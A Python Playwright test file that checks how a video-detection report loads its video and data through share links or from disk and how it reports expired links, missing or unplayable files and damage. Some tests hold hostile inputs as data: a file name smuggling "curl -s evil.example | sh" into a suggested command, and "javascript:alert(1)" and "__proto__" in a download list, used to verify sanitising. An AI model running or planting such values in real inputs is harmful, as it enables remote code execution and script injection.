"""How the report loads its video and data, through a share link or from disk, and what it says if it can't."""

import shutil
from collections.abc import Iterator
from pathlib import Path

import av
import numpy as np
import pytest
from playwright.sync_api import expect

from tests.browser.conftest import OpenReport
from tests.browser.pages import ReportPage, wait_for_clipboard
from tests.browser.results import BLUE, make_box, make_element, make_results
from tests.browser.shared_site import SharedSite, share_folder
from tests.conftest import OpenPage
from tests.frames import make_frames
from tests.stand_ins.videos import HEIGHT, WIDTH, VideoSpec, make_video
from tests.waiting import wait_for_value, wait_until
from videoinfer.repository import SAMPLE_VIDEO
from videojobs.report.writer import ReportFacts, ReportWriter

HOURS_SECONDS = 7200


@pytest.fixture
def site(tmp_path: Path) -> Iterator[SharedSite]:
    with share_folder(tmp_path) as site:
        yield site


@pytest.fixture(scope="session")
def hours_of_video(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two hours of video, one picture a second."""
    path = tmp_path_factory.mktemp("video") / "hours.mp4"
    with av.open(path, "w") as container:
        stream = container.add_stream("libx264", rate=1, options={"preset": "ultrafast"})
        stream.width, stream.height, stream.pix_fmt = 64, 36, "yuv420p"
        picture = av.VideoFrame.from_ndarray(np.full((36, 64, 3), 90, np.uint8), format="rgb24")
        for second in range(HOURS_SECONDS):
            picture.pts = second
            container.mux(stream.encode(picture))
        container.mux(stream.encode())
    return path


def share_report(site: SharedSite, *, frames: int = 50, fps: float = 5, pieces: bool = True) -> str:
    """Writes a report as a delivery does, and returns its link. A box moves right by 10 pixels per sampled frame."""
    shutil.copy(SAMPLE_VIDEO, site.folder / "video.mp4")
    with ReportWriter() as writer, (site.folder / "report.html").open("wb") as page:
        writer.add_model("parts", "object-detection")
        numbers = range(frames)
        elements = [make_element([make_box("Rock", 50 + 10 * (number % 50), 120)]) for number in numbers]
        offsets, times = [6 * number for number in numbers], [number / fps for number in numbers]
        writer.add(make_frames("parts", elements, offsets, times))
        facts = ReportFacts("belt.mp4", "video.mp4", share_url=site.url.removesuffix("/s/token"))
        report = writer.finish(facts, inline_max_bytes=0 if pieces else None)
        report.write_page(page)
        for name, content in report.pieces():
            (site.folder / "report-data").mkdir(exist_ok=True)
            (site.folder / "report-data" / name).write_bytes(content)
    return f"{site.url}/report.html"


def test_a_shared_report_loads_video_and_pieces_through_redirects(site: SharedSite, open_page: OpenPage) -> None:
    report = ReportPage(open_page(share_report(site)))
    report.wait_for_video()
    report.page.locator("#names").uncheck()

    report.seek(4)
    wait_for_value(report.present, ["Rock 1"])

    wait_for_value(lambda: report.find_color(BLUE), pytest.approx((220, 100, 280, 140), abs=3))
    assert "token" not in (site.folder / "report.html").read_text()
    assert set(site.asked) == {"report.html", "video.mp4", "report-data/0-0.json.gz"}


def list_pieces(site: SharedSite) -> list[str]:
    return [name for name in site.asked if name.startswith("report-data/")]


def test_the_pieces_of_two_hours_are_fetched_when_they_are_needed(
    site: SharedSite, open_page: OpenPage, hours_of_video: Path
) -> None:
    url = share_report(site, frames=36_000)
    shutil.copy(hours_of_video, site.folder / "video.mp4")
    report = ReportPage(open_page(url))
    report.wait_for_video()
    expect(report.page.locator("#duration")).to_have_text("2:00:00")
    wait_for_value(lambda: list_pieces(site), ["report-data/0-0.json.gz"])

    report.row("Rock").locator(".lane").click(position={"x": 250, "y": 5})
    report.settle()
    report.page.wait_for_function("() => document.querySelector('#badge').hidden")

    wait_for_value(report.present, ["Rock 1"])
    assert len(list_pieces(site)) == 2
    assert len(list((site.folder / "report-data").iterdir())) >= 2


def test_a_report_of_two_hours_can_be_one_file(open_report: OpenReport, hours_of_video: Path) -> None:
    """Every tenth minute has a box for a minute, and the last second one of another class."""
    elements = [
        make_element([make_box("Rock", 100, 100)] if second % 600 < 60 else []) for second in range(HOURS_SECONDS)
    ]
    elements[-1] = make_element([make_box("Paper", 500, 100)])
    report = open_report(make_results(elements, fps=1, frame_rate=1), video=hours_of_video)
    report.wait_for_video()

    expect(report.page.locator("#shown")).to_have_text("721")
    report.row("Paper").get_by_role("slider").focus()
    report.page.keyboard.press("ArrowRight")
    expect(report.page.locator("#now")).to_have_text("1:59:59")  # although a bin of the timeline has eight seconds
    wait_for_value(report.present, ["Paper 1"])
    report.row("Rock").get_by_role("slider").focus()
    for seen in ("1:50:00", "1:40:00"):
        report.page.keyboard.press("ArrowLeft")
        expect(report.page.locator("#now")).to_have_text(seen)
    phases = [second % 600 for second in range(72, HOURS_SECONDS, 144)]
    places = [place for place, phase in enumerate(phases) if phase]  # at 0, a pixel may be on either side
    filled = [phases[place] < 60 for place in places]
    wait_for_value(lambda: [report.read_canvas("#seen")[place] > 0 for place in places], filled)


def test_a_piece_behind_an_expired_link_is_reported_and_can_be_retried(
    site: SharedSite, open_page: OpenPage, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("videojobs.report.writer.PIECE_BYTES", 500)
    report = ReportPage(open_page(share_report(site)))
    report.wait_for_video()
    wait_for_value(report.present, ["Rock 1"])
    site.is_expired = True

    report.seek(9)
    warning = report.page.locator("#warning")
    expect(warning).to_contain_text("around 0:0")
    expect(warning).to_contain_text("The link to it has expired: open the report by its link again.")
    wait_for_value(report.is_painted, False)

    site.is_expired = False
    report.page.locator("#reload").click()
    wait_for_value(report.present, ["Rock 1"])
    expect(report.page.locator("#warning")).to_be_hidden()
    wait_for_value(report.is_painted, True)


def test_the_video_continues_when_its_signed_url_expires(site: SharedSite, open_page: OpenPage) -> None:
    site.part_bytes = 32 * 1024
    report = ReportPage(open_page(share_report(site)))
    report.wait_for_video()
    site.signature = 1

    report.page.locator("#play").click()
    report.page.wait_for_function("() => document.querySelector('#video').currentTime > 2")

    expect(report.page.locator("#curtain")).to_be_hidden()
    wait_until(lambda: site.asked.count("video.mp4") >= 2)


def test_the_link_can_be_copied(site: SharedSite, open_page: OpenPage) -> None:
    page = open_page(share_report(site), permissions=["clipboard-read", "clipboard-write"])

    page.get_by_role("button", name="Copy link at 0:00").click()

    page.get_by_role("button", name="Copied").wait_for()
    wait_for_clipboard(page, f"{site.url}?t=0")


def test_the_files_behind_a_link_can_be_saved(site: SharedSite, open_page: OpenPage) -> None:
    site.moment = "&files=results.json,coco.json,javascript:alert(1),__proto__&t=0"
    (site.folder / "coco.json").write_text('{"images": []}')
    page = open_page(share_report(site))
    expect(page.locator("#downloads a")).to_have_text(["COCO", "JSON"])

    with page.expect_download() as saved:
        page.get_by_role("link", name="COCO").click()

    assert saved.value.path().read_text() == '{"images": []}'
    expect(page.locator("#title")).to_be_visible()


def test_a_local_report_offers_the_files_beside_the_results(open_report: OpenReport, tmp_path: Path) -> None:
    (tmp_path / "coco.json").write_text("{}")
    report = open_report(make_results([make_element([])] * 50))
    links = report.page.locator("#downloads a")
    expect(links).to_have_text(["COCO", "JSON"])
    for number, address in enumerate(["./coco.json", "./results.json"]):
        expect(links.nth(number)).to_have_attribute("href", address)
    # Browsers show a local file instead of saving it.
    with report.page.expect_popup() as shown:
        links.last.click()
    wait_for_value(lambda: shown.value.url.rpartition("/")[2], "results.json")
    expect(report.page.locator("#title")).to_be_visible()


@pytest.mark.parametrize("fragment", ["", "#base=https://elsewhere.example/s/token"])
def test_a_shared_page_loads_nothing_from_elsewhere(site: SharedSite, open_page: OpenPage, fragment: str) -> None:
    share_report(site)
    report = ReportPage(open_page((site.folder / "report.html").as_uri() + fragment))

    report.page.locator("#curtain").wait_for()
    expect(report.page.locator("#curtain-text")).to_contain_text("Open the report by its link again")
    expect(report.page.locator("#warning")).to_contain_text("It comes by the report's link")
    assert site.asked == []


def test_a_video_behind_an_expired_link_is_reported_and_can_be_replaced_by_a_file(
    site: SharedSite, open_page: OpenPage
) -> None:
    url = share_report(site, pieces=False)
    (site.folder / "video.mp4").unlink()
    report = ReportPage(open_page(url))
    report.page.locator("#curtain").wait_for()
    expect(report.page.locator("#curtain-title")).to_have_text("The video can't be loaded")
    expect(report.page.locator("#curtain-text")).to_contain_text("The link may have expired")

    report.seek(4)  # detections are still shown
    wait_for_value(report.present, ["Rock 1"])
    report.page.get_by_role("button", name="Go on without it").click()
    report.page.locator("#names").uncheck()
    wait_for_value(lambda: report.find_color(BLUE), pytest.approx((220, 100, 280, 140), abs=3))

    report.page.locator("#pick").set_input_files(SAMPLE_VIDEO)
    report.wait_for_video()
    report.settle()
    wait_for_value(report.time, pytest.approx(4))
    expect(report.page.locator("#play")).to_be_enabled()


def test_a_missing_file_is_reported_and_can_be_chosen(open_report: OpenReport, tmp_path: Path) -> None:
    report = open_report(make_results([make_element([])] * 50))
    report.wait_for_video()
    video = tmp_path / SAMPLE_VIDEO.name
    moved = video.rename(tmp_path / "moved.mp4")
    report.page.reload()
    report.page.locator("#curtain").wait_for()
    expect(report.page.locator("#curtain-title")).to_have_text("rock-paper-scissors.mp4 can't be played")

    moved.rename(video)
    report.page.get_by_role("button", name="Try again").first.click()
    report.wait_for_video()
    expect(report.page.locator("#curtain")).to_be_hidden()


@pytest.mark.parametrize("container", ["avi", "mp4"])
def test_a_video_that_browsers_do_not_play_is_reported_with_a_command(
    open_report: OpenReport, tmp_path: Path, container: str
) -> None:
    video = tmp_path / f"belt 1.{container}"
    video.write_bytes(make_video(VideoSpec(format=container, codec="mpeg4")))

    report = open_report(make_results([make_element([], WIDTH, HEIGHT)] * 12, frame_rate=24), video=video)

    report.page.locator("#curtain").wait_for()
    expect(report.page.locator("#curtain-text")).to_contain_text(
        f"ffmpeg -i './{video.name}' -pix_fmt yuv420p './{video.name}.mp4'"
    )


def test_no_name_adds_a_command_to_the_page(open_report: OpenReport, tmp_path: Path) -> None:
    video = tmp_path / "belt'; curl -s evil.example | sh; '\u202e.mkv"
    video.write_bytes(make_video(VideoSpec(format="matroska", codec="mpeg4")))

    report = open_report(make_results([make_element([], WIDTH, HEIGHT)] * 12, frame_rate=24), video=video)

    report.page.locator("#curtain").wait_for()
    expect(report.page.locator("#curtain-text")).to_contain_text("ffmpeg -i ./VIDEO -pix_fmt yuv420p ./VIDEO.mp4, and")
    expect(report.page.locator("#curtain-text")).not_to_contain_text("curl")
    wait_until(lambda: "\u202e" not in report.page.content())


def test_a_damaged_page_says_so(open_page: OpenPage, site: SharedSite) -> None:
    share_report(site, pieces=False)
    page = site.folder / "report.html"
    text = page.read_text()
    at = text.index('data-name="index">') + 100
    page.write_text(text[:at] + "AAAA" + text[at + 4 :])

    report = open_page(f"{site.url}/report.html")

    expect(report.locator("#broken")).to_contain_text("can't be opened, because its file is damaged")
